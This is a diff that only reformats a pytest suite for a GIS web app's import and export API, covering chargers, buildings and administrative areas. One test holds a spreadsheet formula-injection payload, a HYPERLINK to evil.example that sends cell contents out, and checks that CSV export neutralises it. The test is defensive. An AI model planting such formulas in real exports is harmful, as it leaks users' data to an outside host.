@@ -1,4 +1,5 @@
 """Import and export of layers as GIS files, over HTTP and on the command line."""
+
 import csv
 import io
 import json
@@ -14,8 +15,13 @@ from app.audit.models import AuditEntry
 from app.core.extensions import db
 from tests.conftest import database_url, make_test_app
 
-FORMATS = {"geojson": "chargers.geojson", "gpkg": "chargers.gpkg", "shp": "chargers.zip",
-           "csv": "chargers.csv", "kml": "chargers.kml"}
+FORMATS = {
+    "geojson": "chargers.geojson",
+    "gpkg": "chargers.gpkg",
+    "shp": "chargers.zip",
+    "csv": "chargers.csv",
+    "kml": "chargers.kml",
+}
 
 
 def count(table: str) -> int:
@@ -23,8 +29,11 @@ def count(table: str) -> int:
 
 
 def upload(client, layer, data: bytes, filename: str, **extra):
-    return client.post(f"/api/v1/{layer}/import", data={"file": (io.BytesIO(data), filename), **extra},
-                       content_type="multipart/form-data")
+    return client.post(
+        f"/api/v1/{layer}/import",
+        data={"file": (io.BytesIO(data), filename), **extra},
+        content_type="multipart/form-data",
+    )
 
 
 def features(client, layer, query=""):
@@ -36,8 +45,11 @@ def geojson_file(feats, **extra) -> bytes:
 
 
 def point_feature(lon, lat, **props):
-    return {"type": "Feature", "geometry": {"type": "Point", "coordinates": [lon, lat]},
-            "properties": {"ports": 6, "status": "planned", **props}}
+    return {
+        "type": "Feature",
+        "geometry": {"type": "Point", "coordinates": [lon, lat]},
+        "properties": {"ports": 6, "status": "planned", **props},
+    }
 
 
 @pytest.mark.parametrize("fmt", FORMATS)
@@ -51,7 +63,7 @@ def test_chargers_round_trip_through_every_format(client, auth, demo, fmt):
     assert r.status_code == 201, r.get_json()
     report = r.get_json()
     assert report["imported"] == report["rows"] == len(original)
-    copies = features(client, "chargers")[len(original):]
+    copies = features(client, "chargers")[len(original) :]
     for a, b in zip(original, copies):
         for key in ("name", "ports", "power_kw", "status", "installed_on", "operator", "compound_id", "grid_code"):
             assert a["properties"][key] == b["properties"][key], (fmt, key)
@@ -66,12 +78,17 @@ def test_building_polygons_round_trip_through_every_format(client, auth, demo, f
     r = upload(client, "buildings", data, "buildings" + FORMATS[fmt][8:])
     assert r.status_code == 201, r.get_json()
     assert r.get_json()["imported"] == len(original)
-    copies = features(client, "buildings", "community=620103002001")[len(original):]
+    copies = features(client, "buildings", "community=620103002001")[len(original) :]
     for a, b in zip(original, copies):
-        assert (a["properties"]["name"], a["properties"]["households"], a["properties"]["grid_code"]) == \
-               (b["properties"]["name"], b["properties"]["households"], b["properties"]["grid_code"])
-        assert shape(a["geometry"]).equals_exact(shape(b["geometry"]), 1e-7) or \
-            shape(a["geometry"]).symmetric_difference(shape(b["geometry"])).area < 1e-12
+        assert (a["properties"]["name"], a["properties"]["households"], a["properties"]["grid_code"]) == (
+            b["properties"]["name"],
+            b["properties"]["households"],
+            b["properties"]["grid_code"],
+        )
+        assert (
+            shape(a["geometry"]).equals_exact(shape(b["geometry"]), 1e-7)
+            or shape(a["geometry"]).symmetric_difference(shape(b["geometry"])).area < 1e-12
+        )
 
 
 def test_export_has_the_scope_and_filters_of_the_list(client, auth, demo):
@@ -87,12 +104,17 @@ def test_export_has_the_scope_and_filters_of_the_list(client, auth, demo):
 def test_export_errors(client, auth, demo):
     assert client.get("/api/v1/chargers/export").status_code == 401
     auth.login("planner")
-    r = client.get("/api/v1/chargers/export?format=dwg")     # a bad query parameter: 400 (was 415)
+    r = client.get("/api/v1/chargers/export?format=dwg")  # a bad query parameter: 400 (was 415)
     assert r.status_code == 400 and "format" in r.get_json()["error"]["fields"]
     r = client.get("/api/v1/chargers/export?colour=red")
-    assert r.status_code == 400 and "status" in r.get_json()["error"]["message"]   # names the layer's filters
-    for query, name in (("status=exploded", "status"), ("sort=secret", "sort"), ("community=123", "community"),
-                        ("limit=0", "limit"), ("bbox=1,2,3", "bbox")):
+    assert r.status_code == 400 and "status" in r.get_json()["error"]["message"]  # names the layer's filters
+    for query, name in (
+        ("status=exploded", "status"),
+        ("sort=secret", "sort"),
+        ("community=123", "community"),
+        ("limit=0", "limit"),
+        ("bbox=1,2,3", "bbox"),
+    ):
         r = client.get(f"/api/v1/chargers/export?{query}")
         assert r.status_code == 400 and name in r.get_json()["error"]["fields"], query
     assert client.get("/api/v1/rivers/export").status_code == 404
@@ -101,8 +123,11 @@ def test_export_errors(client, auth, demo):
 def test_csv_export_cells_are_never_run_as_formulas(client, auth, demo):
     auth.login("planner")
     evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
-    r = client.post("/api/v1/chargers", content_type="application/json", data=json.dumps(
-        point_feature(103.8386, 36.0496, name=evil, operator="@SUM(1+1)", ports=6)))
+    r = client.post(
+        "/api/v1/chargers",
+        content_type="application/json",
+        data=json.dumps(point_feature(103.8386, 36.0496, name=evil, operator="@SUM(1+1)", ports=6)),
+    )
     assert r.status_code == 201, r.get_json()
     text_ = client.get("/api/v1/chargers/export?format=csv&q=HYPERLINK").data.decode("utf-8-sig")
     header, row = list(csv.reader(io.StringIO(text_)))[:2]
@@ -118,21 +143,27 @@ def test_non_spatial_layer_exports_as_csv(client, auth, demo):
     auth.login("planner")
     text_ = client.get("/api/v1/property-companies/export?format=csv").data.decode("utf-8-sig")
     assert "兰州晟合物业有限责任公司" in text_ and "model_unit" in text_
-    r = client.get("/api/v1/property-companies/export?format=kml")     # 400 (was 415): a bad parameter
+    r = client.get("/api/v1/property-companies/export?format=kml")  # 400 (was 415): a bad parameter
     assert r.status_code == 400 and "geometry" in r.get_json()["error"]["fields"]["format"]
 
 
 def test_bad_rows_are_422_with_row_numbers_and_nothing_is_stored(client, auth, demo):
     auth.login("planner")
-    bowtie = {"type": "Polygon", "coordinates": [[[103.835, 36.046], [103.836, 36.047], [103.836, 36.046],
-                                                  [103.835, 36.047], [103.835, 36.046]]]}
-    data = geojson_file([
-        point_feature(103.8386, 36.0496, name="好的"),
-        {"type": "Feature", "geometry": bowtie, "properties": {"ports": 6, "status": "planned"}},
-        point_feature(103.8386, 100.0),
-        point_feature(103.8386, 36.0496, ports="很多"),
-        point_feature(103.8386, 36.0496, status="exploded"),
-    ])
+    bowtie = {
+        "type": "Polygon",
+        "coordinates": [
+            [[103.835, 36.046], [103.836, 36.047], [103.836, 36.046], [103.835, 36.047], [103.835, 36.046]]
+        ],
+    }
+    data = geojson_file(
+        [
+            point_feature(103.8386, 36.0496, name="好的"),
+            {"type": "Feature", "geometry": bowtie, "properties": {"ports": 6, "status": "planned"}},
+            point_feature(103.8386, 100.0),
+            point_feature(103.8386, 36.0496, ports="很多"),
+            point_feature(103.8386, 36.0496, status="exploded"),
+        ]
+    )
     before = count("chargers")
     r = upload(client, "chargers", data, "bad.geojson")
     assert r.status_code == 422
@@ -146,11 +177,13 @@ def test_bad_rows_are_422_with_row_numbers_and_nothing_is_stored(client, auth, d
 
 def test_invalid_polygon_and_out_of_range_coordinates_are_row_errors(client, auth, demo):
     auth.login("planner")
-    csv_data = (b"name,capacity,kind,status,wkt\n"
-                b"ok,5,mixed,planned,\"POLYGON((103.895 36.073,103.8955 36.073,103.8955 36.0733,103.895 36.0733,103.895 36.073))\"\n"
-                b"bowtie,5,mixed,planned,\"POLYGON((103.895 36.073,103.8955 36.0733,103.8955 36.073,103.895 36.0733,103.895 36.073))\"\n"
-                b"far,5,mixed,planned,\"POLYGON((203.895 36.073,203.8955 36.073,203.8955 36.0733,203.895 36.073))\"\n"
-                b"notwkt,5,mixed,planned,POLYGON((1 2\n")
+    csv_data = (
+        b"name,capacity,kind,status,wkt\n"
+        b'ok,5,mixed,planned,"POLYGON((103.895 36.073,103.8955 36.073,103.8955 36.0733,103.895 36.0733,103.895 36.073))"\n'
+        b'bowtie,5,mixed,planned,"POLYGON((103.895 36.073,103.8955 36.0733,103.8955 36.073,103.895 36.0733,103.895 36.073))"\n'
+        b'far,5,mixed,planned,"POLYGON((203.895 36.073,203.8955 36.073,203.8955 36.0733,203.895 36.073))"\n'
+        b"notwkt,5,mixed,planned,POLYGON((1 2\n"
+    )
     before = count("bike_zones")
     r = upload(client, "bike-zones", csv_data, "zones.csv")
     assert r.status_code == 422
@@ -162,6 +195,7 @@ def test_invalid_polygon_and_out_of_range_coordinates_are_row_errors(client, aut
 
 def test_rows_outside_the_users_area_are_403_and_nothing_is_stored(client, auth, app, demo):
     from app.auth.services import create_user
+
     create_user("xyplanner", "wuwei-planner", "planner", "620103002", "西园规划")
     auth.login("xyplanner", "wuwei-planner")
     data = geojson_file([point_feature(103.785, 36.047), point_feature(103.8386, 36.0496)])
@@ -211,8 +245,9 @@ def test_a_file_in_another_crs_is_reprojected(client, auth, demo):
 def test_a_file_whose_crs_is_wrong_lands_nowhere_and_is_refused(client, auth, demo):
     """Lon/lat numbers declared as Web Mercator metres end up near (0, 0): outside every area."""
     auth.login("planner")
-    data = geojson_file([point_feature(103.8386, 36.0496)],
-                        crs={"type": "name", "properties": {"name": "urn:ogc:def:crs:EPSG::3857"}})
+    data = geojson_file(
+        [point_feature(103.8386, 36.0496)], crs={"type": "name", "properties": {"name": "urn:ogc:def:crs:EPSG::3857"}}
+    )
     before = count("chargers")
     r = upload(client, "chargers", data, "wrong-crs.geojson")
     assert r.status_code == 403 and "outside your area" in r.get_json()["error"]["rows"][0]["message"]
@@ -257,15 +292,27 @@ def test_import_refusals(client, auth, app, demo):
 
 def test_import_is_audited(client, auth, demo):
     auth.login("planner")
-    r = upload(client, "chargers", geojson_file([point_feature(103.8386, 36.0496), point_feature(103.8387, 36.0496)]),
-               "two.geojson")
+    r = upload(
+        client,
+        "chargers",
+        geojson_file([point_feature(103.8386, 36.0496), point_feature(103.8387, 36.0496)]),
+        "two.geojson",
+    )
     assert r.status_code == 201
-    entry = db.session.scalars(select(AuditEntry).where(AuditEntry.action == "import")
-                               .order_by(AuditEntry.id.desc())).first()
+    entry = db.session.scalars(
+        select(AuditEntry).where(AuditEntry.action == "import").order_by(AuditEntry.id.desc())
+    ).first()
     assert entry.table_name == "chargers" and entry.after["imported"] == 2 and entry.user_id is not None
-    inserts = db.session.scalar(select(func.count()).select_from(AuditEntry).where(
-        AuditEntry.table_name == "chargers", AuditEntry.action == "insert", AuditEntry.id < entry.id,
-        AuditEntry.id >= entry.id - 2))
+    inserts = db.session.scalar(
+        select(func.count())
+        .select_from(AuditEntry)
+        .where(
+            AuditEntry.table_name == "chargers",
+            AuditEntry.action == "insert",
+            AuditEntry.id < entry.id,
+            AuditEntry.id >= entry.id - 2,
+        )
+    )
     assert inserts == 2
 
 
@@ -319,9 +366,11 @@ def test_a_database_refusal_is_reported_with_its_row_number(client, auth, demo):
 
 def test_areas_import_in_file_order_parents_first(client, auth, demo):
     auth.login("admin")
-    csv_data = ("level,code,name,parent_code,wkt\n"
-                "community,620102011005,新社区,620102011,\"POLYGON((103.870 36.067,103.875 36.067,103.875 36.070,103.870 36.070,103.870 36.067))\"\n"
-                "grid,620102011005001,新网格,620102011005,\"POLYGON((103.870 36.067,103.8725 36.067,103.8725 36.070,103.870 36.070,103.870 36.067))\"\n")
+    csv_data = (
+        "level,code,name,parent_code,wkt\n"
+        'community,620102011005,新社区,620102011,"POLYGON((103.870 36.067,103.875 36.067,103.875 36.070,103.870 36.070,103.870 36.067))"\n'
+        'grid,620102011005001,新网格,620102011005,"POLYGON((103.870 36.067,103.8725 36.067,103.8725 36.070,103.870 36.070,103.870 36.067))"\n'
+    )
     r = upload(client, "areas", csv_data.encode(), "areas.csv")
     assert r.status_code == 201, r.get_json()
     assert r.get_json()["imported"] == 2
@@ -332,17 +381,26 @@ def test_areas_import_in_file_order_parents_first(client, auth, demo):
 def test_a_bearer_token_import_needs_no_csrf_token_and_a_cookie_session_import_does(app, auth, demo):
     csrf_client = make_test_app(database_url("test"), WTF_CSRF_ENABLED=True).test_client()
     data = geojson_file([point_feature(103.8386, 36.0496)])
-    r = csrf_client.post("/api/v1/chargers/import", data={"file": (io.BytesIO(data), "a.geojson")},
-                         content_type="multipart/form-data", headers=auth.token("planner"))
+    r = csrf_client.post(
+        "/api/v1/chargers/import",
+        data={"file": (io.BytesIO(data), "a.geojson")},
+        content_type="multipart/form-data",
+        headers=auth.token("planner"),
+    )
     assert r.status_code == 201, r.get_json()
     page = csrf_client.get("/login").get_data(as_text=True)
     token = re.search(r'name="csrf_token" type="hidden" value="([^"]+)"', page).group(1)
     csrf_client.post("/login", data={"username": "planner", "password": "wuwei-planner", "csrf_token": token})
     before = count("chargers")
-    r = csrf_client.post("/api/v1/chargers/import", data={"file": (io.BytesIO(data), "a.geojson")},
-                         content_type="multipart/form-data")
+    r = csrf_client.post(
+        "/api/v1/chargers/import", data={"file": (io.BytesIO(data), "a.geojson")}, content_type="multipart/form-data"
+    )
     assert r.status_code == 400 and "CSRF" in r.get_json()["error"]["message"]
     assert count("chargers") == before
-    r = csrf_client.post("/api/v1/chargers/import", data={"file": (io.BytesIO(data), "a.geojson")},
-                         content_type="multipart/form-data", headers={"X-CSRFToken": token})
+    r = csrf_client.post(
+        "/api/v1/chargers/import",
+        data={"file": (io.BytesIO(data), "a.geojson")},
+        content_type="multipart/form-data",
+        headers={"X-CSRFToken": token},
+    )
     assert r.status_code == 201 and count("chargers") == before + 1
